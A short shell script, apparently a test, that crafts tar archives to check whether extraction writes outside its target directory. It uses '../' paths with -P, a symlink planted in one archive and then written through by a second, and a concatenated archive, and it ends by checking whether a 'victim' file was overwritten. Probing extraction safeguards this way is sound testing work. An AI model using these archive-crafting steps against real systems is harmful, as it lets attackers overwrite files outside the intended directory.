# Archives that lead elsewhere, made by hand with -P.
mkdir in out; echo victim > out/file; cd in; ln -s ../out way; echo new > payload
tar cPf ../up.tar ../in/payload 2>/dev/null; mkdir ../safe; cd ../safe; tar xf ../up.tar 2>/dev/null; echo $?; ls ../safe | wc -l; find .. -name payload | sort
cd ..; mkdir s1 s2; ln -s "$PWD/out" s1/way; tar cf one.tar -C s1 way; mkdir s2/way; echo attack > s2/way/file; tar cf two.tar -C s2 way/file; mkdir t; tar xf one.tar -C t
tar xf two.tar -C t 2>/dev/null; (head -c 512 one.tar; cat two.tar) > both.tar; mkdir u; tar xf both.tar -C u 2>/dev/null; cat out/file
